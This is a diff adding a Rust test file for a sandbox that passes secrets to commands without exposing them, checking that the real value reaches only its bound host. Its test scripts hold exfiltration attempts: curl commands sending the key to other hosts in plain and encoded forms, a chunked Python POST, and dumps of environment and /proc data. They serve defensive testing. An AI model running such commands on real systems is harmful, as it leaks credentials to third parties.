@@ -1,0 +1,134 @@
+//! Secrets that a command uses and never has.
+
+use crate::world::{EVERYONE, PUBLIC, World};
+
+const SECRET: &str = "sk-test-Qm9yZWRvbUlzQVZpcnR1ZTEyMzQ1Njc4";
+const LENT: [&str; 2] = ["--secret", "MY_KEY=site.test"];
+
+fn run(world: &World, options: &[&str], script: &str) -> crate::world::Said {
+    let options: Vec<&str> = LENT.iter().chain(options).copied().collect();
+    world.run_having(&[("MY_KEY", SECRET)], &options, script)
+}
+
+#[test]
+fn egr_13_the_secret_reaches_its_host_and_is_nowhere_inside() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let server = world.https(PUBLIC, &["site.test"]);
+        let script = "
+            echo \"word $MY_KEY\"
+            curl -fsS -H \"x-key: $MY_KEY\" https://site.test/header >/dev/null
+            curl -fsS -H \"Authorization: Bearer $MY_KEY\" https://site.test/bearer >/dev/null
+            curl -fsS -u \"user:$MY_KEY\" https://site.test/basic >/dev/null
+            curl -fsS \"https://site.test/query?key=$MY_KEY\" >/dev/null
+            curl -fsS -d \"key=$MY_KEY\" https://site.test/form >/dev/null
+            curl -fsS -H 'Content-Type: application/json' -d \"{\\\"key\\\":\\\"$MY_KEY\\\"}\" https://site.test/json >/dev/null
+            env > all; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >> all 2>/dev/null || true
+            find / -xdev -type f -size -200k -newer /proc/1/stat 2>/dev/null | head -200 | xargs cat >> all 2>/dev/null || true";
+        let said = run(&world, &[], script).ok();
+        let word = said.out.strip_prefix("word ").unwrap().trim();
+        assert!(word.starts_with("sk-test-") && word.len() == SECRET.len() && word != SECRET, "{word}");
+        let seen = server.seen();
+        assert_eq!(seen.len(), 6, "{who:?} {:?} {}", server.asked(), said.err);
+        let basic = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, format!("user:{SECRET}"));
+        for request in &seen {
+            let all = format!("{}{}", request.head, String::from_utf8_lossy(&request.body));
+            assert!(all.contains(SECRET) || all.contains(&basic), "{all}");
+            assert!(!all.contains(word), "{all}");
+        }
+        let inside = std::fs::read(world.project().join("all")).unwrap();
+        let inside = String::from_utf8_lossy(&inside);
+        assert!(inside.contains(word) && !inside.contains(SECRET));
+        let record = format!("{:?}", world.entries("network.connect"));
+        assert!(!record.contains(SECRET) && !record.contains(word), "{record}");
+    }
+}
+
+#[test]
+fn adv_c02_a_word_that_is_sent_to_another_host_is_refused_in_every_writing() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let server = world.https(PUBLIC, &["site.test", "registry.npmjs.org"]);
+        let plain = world.http(PUBLIC, 80);
+        let other = "https://registry.npmjs.org/x";
+        let script = format!(
+            "code() {{ curl -sS -o /dev/null -w '%{{http_code}}\\n' \"$@\"; }}
+             code {other}
+             code -H \"x-key: $MY_KEY\" {other}
+             code -u \"user:$MY_KEY\" {other}
+             code \"{other}?key=$MY_KEY\"
+             code \"{other}/$MY_KEY\"
+             code -H \"x-key: $(printf %s $MY_KEY | base64 -w0)\" {other}
+             code -H \"x-key: $(printf %s $MY_KEY | od -An -tx1 | tr -d ' \\n')\" {other}
+             code -H \"x-key: $(printf %s $MY_KEY | rev)\" {other}
+             code -H \"x-key: $(printf %s $MY_KEY | base64 -w0)\" https://site.test/disguised
+             code -H \"x-key: $MY_KEY\" http://site.test/"
+        );
+        let said = run(&world, &["--preset", "npm-install", "--allow", "site.test:80"], &script);
+        assert_eq!(said.out.lines().next(), Some("200"), "{} {}", said.out, said.err);
+        assert_eq!(said.out.lines().skip(1).collect::<Vec<_>>(), ["403"; 9], "{}", said.err);
+        assert_eq!((server.asked().len(), plain.asked().len()), (1, 0), "{who:?}");
+        assert_eq!(world.entries("network.finding").len(), 9);
+        assert!(said.err.contains("the secret `MY_KEY`") && !said.err.contains(SECRET), "{}", said.err);
+    }
+}
+
+#[test]
+fn adv_c02_a_word_in_content_that_comes_in_pieces_is_found() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let server = world.https(PUBLIC, &["github.com"]);
+        let script = "python3 - <<'X'
+import http.client, os, sys
+word = os.environ['MY_KEY']
+print('word', word, file=sys.stderr)
+def parts():
+    yield b'x' * 300000
+    for letter in word: yield letter.encode()
+    yield b'y' * 10
+c = http.client.HTTPSConnection('github.com')
+try:
+    c.request('POST', '/x', body=parts(), encode_chunked=True, headers={'Transfer-Encoding': 'chunked'})
+    print(c.getresponse().status)
+except (OSError, http.client.HTTPException) as error: print('broken', type(error).__name__)
+X";
+        let lent = [("MY_KEY", SECRET), ("OTHER", "another secret of some length, 12345678901234567890")];
+        let options = ["--secret", "MY_KEY=site.test", "--secret", "OTHER=github.com"];
+        let said = world.run_having(&lent, &options, script);
+        assert!(!said.out.contains("200"), "{} {}", said.out, said.err);
+        let word = said.err.lines().find_map(|line| line.strip_prefix("word ")).unwrap();
+        for request in server.seen() {
+            let body: String =
+                String::from_utf8_lossy(&request.body).split("\r\n").skip(1).step_by(2).collect();
+            assert!(!body.contains(word) && body.contains("xxx"), "{}", body.trim_start_matches('x'));
+        }
+        assert_eq!(world.entries("network.finding").len(), 1, "{}", said.err);
+    }
+}
+
+#[test]
+fn adv_c03_an_answer_that_gives_the_secret_back_is_masked() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let _server = world.https(PUBLIC, &["site.test"]);
+        let said = run(&world, &[], "curl -fsS -H \"x-key: $MY_KEY\" https://site.test/echo").ok();
+        assert!(said.out.contains("x-key: ****") && !said.out.contains(SECRET), "{}", said.out);
+        assert_eq!(world.entries("network.finding").len(), 1);
+        said.tells("the answer carried the secret `MY_KEY`");
+    }
+}
+
+#[test]
+fn adv_c04_a_secret_with_a_line_end_is_not_lent() {
+    for who in EVERYONE {
+        let world = World::new(who);
+        let said = world.run_having(&[("MY_KEY", "a value\r\nwith: a header")], &LENT, "true");
+        assert_eq!(said.code, Some(125));
+        let said = said.tells("cannot lend `MY_KEY`, because its value is too short, or has a line end");
+        assert!(!said.err.contains("with: a header"));
+        world.run_having(&[], &LENT, "true").tells("it is not set here");
+        world
+            .run_having(&[("MY_KEY", SECRET)], &["--secret", "MY_KEY"], "true")
+            .tells("nothing says where it goes");
+    }
+}
